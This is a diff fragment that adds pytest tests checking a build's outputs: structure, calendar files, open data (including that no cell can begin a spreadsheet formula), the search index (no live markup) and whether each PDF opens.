+    assert findings["structure"] == [], _report(findings["structure"])
+
+
+def test_calendars_parse_and_keep_every_summary_location_and_description(findings):
+    _built(findings)
+    assert findings["calendar"] == [], _report(findings["calendar"])
+
+
+def test_open_data_validates_and_no_cell_can_start_a_spreadsheet_formula(findings):
+    _built(findings)
+    assert findings["open data"] == [], _report(findings["open data"])
+
+
+def test_the_search_index_parses_and_holds_no_live_markup(findings):
+    _built(findings)
+    assert findings["search"] == [], _report(findings["search"])
+
+
+def test_every_pdf_opens(findings):
+    _built(findings)
+    assert findings["pdf"] == [], _report(findings["pdf"])
